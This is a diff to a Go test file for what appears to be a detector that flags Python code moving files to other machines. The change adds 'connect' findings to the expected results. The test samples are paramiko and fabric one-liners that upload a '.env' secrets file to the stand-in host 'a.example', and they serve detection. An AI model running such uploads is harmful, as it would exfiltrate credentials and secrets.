@@ -140,9 +140,9 @@ func TestPythonEverydayProgramsDoNothing(t *testing.T) {
 
 func TestPythonPutsFilesOnOtherMachines(t *testing.T) {
 	check(t, library.Python, []sample{
-		{`import paramiko; c = paramiko.SSHClient(); c.connect('a.example', username='x'); c.open_sftp().put('.env', 'k')`, []string{"send a.example from .env"}},
+		{`import paramiko; c = paramiko.SSHClient(); c.connect('a.example', username='x'); c.open_sftp().put('.env', 'k')`, []string{"connect a.example", "send a.example from .env"}},
 		{`import paramiko; t = paramiko.Transport(('a.example', 22)); paramiko.SFTPClient.from_transport(t).put('.env', 'k')`, []string{"send a.example from .env"}},
 		{`from fabric import Connection; Connection('a.example').put('.env')`, []string{"send a.example from .env"}},
-		{`import paramiko; paramiko.SSHClient().connect('a.example')`, nil},
+		{`import paramiko; paramiko.SSHClient().connect('a.example')`, []string{"connect a.example"}},
 	})
 }
